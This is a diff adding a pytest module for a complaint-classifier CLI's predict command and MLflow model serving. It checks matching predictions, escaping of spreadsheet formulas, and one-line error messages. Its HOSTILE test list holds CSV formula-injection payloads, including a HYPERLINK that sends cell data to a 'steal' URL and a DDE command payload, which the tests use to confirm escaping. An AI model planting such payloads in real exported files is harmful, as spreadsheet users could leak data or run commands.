@@ -1,0 +1,226 @@
+"""`nichetune predict` and `mlflow models serve` on a tiny model registered in a project's SQLite MLflow store:
+the same predictions both ways, spreadsheet formulas escaped, and one-line errors for bad input."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from contextlib import contextmanager
+from pathlib import Path
+
+import mlflow
+import numpy as np
+import pandas as pd
+import pytest
+from mlflow import MlflowClient
+
+from flows.cli import main
+from tasks.config import FinetuneParams, Paths, load_params
+from tasks.finetune import finetune
+from tasks.predict import FORMULA_START, escape_formula, model_uri
+from tasks.register import _experiment_id, _log_model, _tracking, tracking_uri
+from tests.conftest import cfpb_sample, make_project, project_params
+
+HOSTILE = ['=HYPERLINK("http://example.org/steal?x="&A1,"click")', "", "-2+3", "@SUM(A1:A9)", "\tindented",
+           "+cmd|' /C calc'!A0"]
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory, tiny_backbone) -> tuple[Path, str]:
+    """A project whose tracking store holds `complaints` version 1, aliased champion; returns root and URI."""
+    root = make_project(tmp_path_factory.mktemp("predict") / "project", cfpb_sample(per_class=6),
+                        project_params(str(tiny_backbone)))
+    params = load_params(root / "params.yaml")
+    paths = Paths.of(root, params)
+    train = cfpb_sample(per_class=6).rename(columns={"issue": "label"})[["text", "label"]]
+    cfg = FinetuneParams(backbone=str(tiny_backbone), strategy="head", epochs=1, batch_size=8, max_length=64)
+    model = finetune(train, cfg, seed=0, out_dir=tmp_path_factory.mktemp("predict-model"))
+    uri = tracking_uri(paths)
+    with _tracking(uri), mlflow.start_run(experiment_id=_experiment_id("tests", uri, paths)):
+        info = _log_model(model.model_dir, "complaints")
+    MlflowClient(uri, registry_uri=uri).set_registered_model_alias("complaints", "champion",
+                                                                  str(info.registered_model_version))
+    return root, uri
+
+
+@pytest.fixture(scope="module")
+def new_rows(project) -> Path:
+    """Unlabeled rows to predict: real complaints, formula-like and empty texts, a numeric column."""
+    root, _ = project
+    real = cfpb_sample(per_class=2)[["complaint_id", "text"]]
+    odd = pd.DataFrame({"complaint_id": range(len(HOSTILE)), "text": HOSTILE})
+    frame = pd.concat([real, odd], ignore_index=True)
+    frame["amount"] = ["-3.5", "=1+1"] + ["12"] * (len(frame) - 2)
+    frame.to_csv(root / "data" / "new.csv", index=False)
+    return root / "data" / "new.csv"
+
+
+def nichetune(root: Path, monkeypatch, capsys, *args: str) -> tuple[int, str, str]:
+    """Run the CLI in the project folder; returns the exit code, stdout and stderr."""
+    monkeypatch.chdir(root)
+    try:
+        main(list(args))
+        code = 0
+    except SystemExit as stop:
+        code = stop.code
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def unescape(value):
+    """The value before `escape_formula` (what the model saw and what the server returns)."""
+    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
+        return value[1:]
+    return value
+
+
+def read_output(path: Path) -> pd.DataFrame:
+    return pd.read_csv(path, keep_default_na=False, dtype={"complaint_id": str, "amount": str, "text": str})
+
+
+def test_predict_writes_every_row_with_class_probabilities(project, new_rows, monkeypatch, capsys):
+    root, _ = project
+    code, out, _ = nichetune(root, monkeypatch, capsys, "predict", "data/new.csv")
+    written = root / "data" / "new.predictions.csv"
+    assert code == 0 and out.strip() == (f"14 predictions by models:/complaints@champion (version 1) written to "
+                                         f"{written}")
+    frame = read_output(written)
+    labels = sorted(cfpb_sample(per_class=6)["issue"].unique())
+    assert frame.columns.tolist() == (["complaint_id", "text", "amount", "prediction", "probability"]
+                                      + [f"prob_{label}" for label in labels])
+    probs = frame[[f"prob_{label}" for label in labels]].to_numpy()
+    assert np.allclose(probs.sum(axis=1), 1, atol=1e-5)
+    assert (frame["probability"] == probs.max(axis=1)).all()
+    assert (frame["prediction"] == [labels[i] for i in probs.argmax(axis=1)]).all()
+    assert frame["text"].iloc[9] == ""  # the empty text is predicted too, never dropped
+
+
+def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(project, new_rows, monkeypatch, capsys):
+    root, _ = project
+    nichetune(root, monkeypatch, capsys, "predict", str(new_rows), "--output", "out/escaped.csv")
+    frame = read_output(root / "out" / "escaped.csv")
+    assert frame["text"].iloc[8:].tolist() == ["'" + HOSTILE[0], "", "'-2+3", "'@SUM(A1:A9)", "'\tindented",
+                                               "'+cmd|' /C calc'!A0"]
+    assert frame["amount"].iloc[:2].tolist() == ["-3.5", "'=1+1"]  # a negative number is data, not a formula
+    assert [escape_formula(v) for v in ("\rx", "ok", "-", "+1e5", 3)] == ["'\rx", "ok", "'-", "+1e5", 3]
+
+
+def test_mlflow_models_serve_answers_with_the_same_predictions(project, new_rows, monkeypatch, capsys, tmp_path):
+    root, uri = project
+    nichetune(root, monkeypatch, capsys, "predict", str(new_rows), "--output", str(tmp_path / "cli.csv"))
+    written = read_output(tmp_path / "cli.csv")
+    texts = pd.read_csv(new_rows, keep_default_na=False, dtype=str)["text"].tolist()
+    with served("models:/complaints@champion", uri, tmp_path / "server.log") as url:
+        request = urllib.request.Request(
+            f"{url}/invocations", headers={"Content-Type": "application/json"},
+            data=json.dumps({"dataframe_split": {"columns": ["text"], "data": [[t] for t in texts]}}).encode())
+        with urllib.request.urlopen(request, timeout=60) as response:
+            answer = pd.DataFrame(json.load(response)["predictions"])
+    assert answer.columns.tolist() == written.columns.tolist()[3:]
+    assert answer["prediction"].tolist() == written["prediction"].map(unescape).tolist()
+    numbers = [c for c in answer.columns if c != "prediction"]  # float32 in both; the CSV keeps every digit
+    assert np.array_equal(answer[numbers].to_numpy(np.float32), written[numbers].to_numpy(np.float32))
+
+
+@contextmanager
+def served(model: str, uri: str, log: Path, timeout: float = 90):
+    """`mlflow models serve` for `model` as a subprocess in its own process group; yields its URL and always
+    stops the whole group (mlflow's CLI execs uvicorn under bash)."""
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    bin_dir = str(Path(sys.executable).parent)  # mlflow runs `uvicorn` from PATH
+    env = {**os.environ, "MLFLOW_TRACKING_URI": uri, "PATH": bin_dir + os.pathsep + os.environ["PATH"],
+           "TMPDIR": str(log.parent)}  # the model copy it downloads goes away with the test folder
+    command = [f"{bin_dir}/mlflow", "models", "serve", "-m", model, "--env-manager", "local",
+               "-h", "127.0.0.1", "-p", str(port)]
+    with log.open("wb") as output:
+        process = subprocess.Popen(command, env=env, stdout=output, stderr=subprocess.STDOUT,
+                                   start_new_session=True)
+        try:
+            wait_for_ping(process, f"http://127.0.0.1:{port}", log, timeout)
+            yield f"http://127.0.0.1:{port}"
+        finally:
+            stop_group(process)
+
+
+def wait_for_ping(process: subprocess.Popen, url: str, log: Path, timeout: float) -> None:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if process.poll() is not None:
+            pytest.fail(f"mlflow models serve exited with {process.returncode}:\n{log.read_text()}")
+        try:
+            with urllib.request.urlopen(f"{url}/ping", timeout=2) as response:
+                if response.status == 200:
+                    return
+        except OSError:
+            time.sleep(0.5)
+    pytest.fail(f"mlflow models serve did not answer /ping in {timeout} s:\n{log.read_text()}")
+
+
+def stop_group(process: subprocess.Popen) -> None:
+    try:
+        os.killpg(process.pid, signal.SIGTERM)
+        process.wait(timeout=15)
+    except ProcessLookupError:
+        pass
+    except subprocess.TimeoutExpired:
+        os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+
+
+def test_a_missing_text_column_is_one_line_naming_file_column_and_columns(project, monkeypatch, capsys):
+    root, _ = project
+    pd.DataFrame({"id": [1], "body": ["my loan"]}).to_csv(root / "data" / "wrong.csv", index=False)
+    code, out, err = nichetune(root, monkeypatch, capsys, "predict", "data/wrong.csv")
+    assert code == 2 and out == ""
+    assert err == (f"error: {root / 'data' / 'wrong.csv'}: no column 'text' (ingest.text_column); "
+                   "columns found: 'id', 'body'\n")
+    assert not (root / "data" / "wrong.predictions.csv").exists()
+
+
+@pytest.mark.parametrize("model, message", [
+    ("complaints@staging", "error: no version of complaints has the alias staging (aliases: champion -> version 1); "
+                           "promote one with nichetune promote, or pass --model complaints/VERSION\n"),
+    ("complaints/7", "error: complaints has no version '7' (versions: 1); pass one of them, or "
+                     "--model complaints@champion\n"),
+    ("models:/nosuch@champion", "error: no registered model named 'nosuch' in {uri} (registered: complaints); "
+                                "train and register one with nichetune run, or pass --model NAME@ALIAS\n"),
+])
+def test_an_unknown_model_or_alias_is_one_line_saying_what_exists(project, new_rows, monkeypatch, capsys,
+                                                                  model, message):
+    root, uri = project
+    code, out, err = nichetune(root, monkeypatch, capsys, "predict", "data/new.csv", "--model", model,
+                               "--output", "never.csv")
+    assert (code, out, err) == (2, "", message.format(uri=uri))
+    assert not (root / "never.csv").exists()
+
+
+def test_a_row_that_does_not_fit_the_header_is_one_line_naming_it(project, monkeypatch, capsys):
+    root, _ = project
+    (root / "data" / "ragged.csv").write_text("id,text\n1,my loan\n2,charged twice, then again,and again\n")
+    code, out, err = nichetune(root, monkeypatch, capsys, "predict", "data/ragged.csv")
+    assert (code, out) == (2, "")
+    assert err == (f"error: {root / 'data' / 'ragged.csv'}: line 3: ragged row: 4 fields where the header has 2 "
+                   "(1 such rows); fix them (quote fields that hold the delimiter) and run predict again\n")
+
+
+def test_the_input_file_is_never_overwritten(project, new_rows, monkeypatch, capsys):
+    root, _ = project
+    before = new_rows.read_bytes()
+    code, _, err = nichetune(root, monkeypatch, capsys, "predict", "data/new.csv", "--output", "data/new.csv")
+    assert code == 2 and "is the input file" in err and new_rows.read_bytes() == before
+
+
+def test_model_references():
+    assert model_uri(None, "complaints") == "models:/complaints@champion"
+    assert model_uri("other", "complaints") == "models:/other@champion"
+    assert model_uri("other/3", "complaints") == "models:/other/3"
+    assert model_uri("other@challenger", "complaints") == "models:/other@challenger"
+    assert model_uri("models:/x@y", "complaints") == "models:/x@y"
